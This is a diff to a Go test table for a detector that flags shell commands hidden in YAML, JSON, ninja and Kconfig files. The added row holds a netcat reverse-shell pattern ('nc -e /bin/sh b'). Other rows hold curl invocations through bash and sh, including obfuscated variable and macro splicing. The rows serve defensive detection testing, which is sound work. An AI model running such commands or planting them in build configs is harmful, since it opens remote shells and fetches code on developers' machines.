@@ -25,6 +25,7 @@ func pieces() []struct {
 	}{
 		{"the words of a command under an unknown key", gate.LanguageYAML, "buf.gen.yaml", "plugins:\n- local: [bash, -c, \"curl b\"]\n", "shell 2 bash -c curl b"},
 		{"the same as a block", gate.LanguageYAML, "x.yaml", "a:\n  b:\n  - /bin/sh\n  - -ec\n  - curl b\n", "shell 5 curl b"},
+		{"the words of a client", gate.LanguageYAML, "x.yaml", "a: [nc, -e, /bin/sh, b]\n", "shell 1 nc -e /bin/sh b"},
 		{"the same in JSON", gate.LanguageJSON, "x.json", "{\"a\":[\"sh\",\"-c\",\"curl b\"]}", "shell 1 sh -c curl b"},
 		{"variables of ninja", gate.LanguageUnknown, "build.ninja", "a = cu\nrule x\n  command = ${a}rl b\nbuild y: x\n", "shell 3 curl b"},
 		{"macros of Kconfig", gate.LanguageUnknown, "Kconfig", "a := cu\nb := $(shell,$(a)rl b)\n", "shell 2 curl b"},
